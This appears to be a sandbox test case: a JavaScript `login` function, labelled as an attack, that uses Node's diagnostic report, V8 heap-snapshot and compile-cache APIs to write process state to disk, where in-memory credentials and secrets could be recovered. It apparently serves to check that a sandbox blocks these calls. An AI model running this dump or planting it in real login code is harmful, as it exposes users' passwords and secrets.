// attack: let Node write its reports, heap snapshots and caches, full of secrets
// needs: fs
// came_to: {"report":"any","heap":"any","cache":"any"}
function login(email, password, callback) {
  const { folder, mark } = configuration;
  const get = process.getBuiltinModule;
  report(callback, {
    report: () => void process.report.writeReport(`${folder}/${mark}.json`),
    heap: () => void get('v8').writeHeapSnapshot(`${folder}/${mark}.heapsnapshot`),
    cache: () => void get('module').enableCompileCache(`${folder}/${mark}`),
  });
}
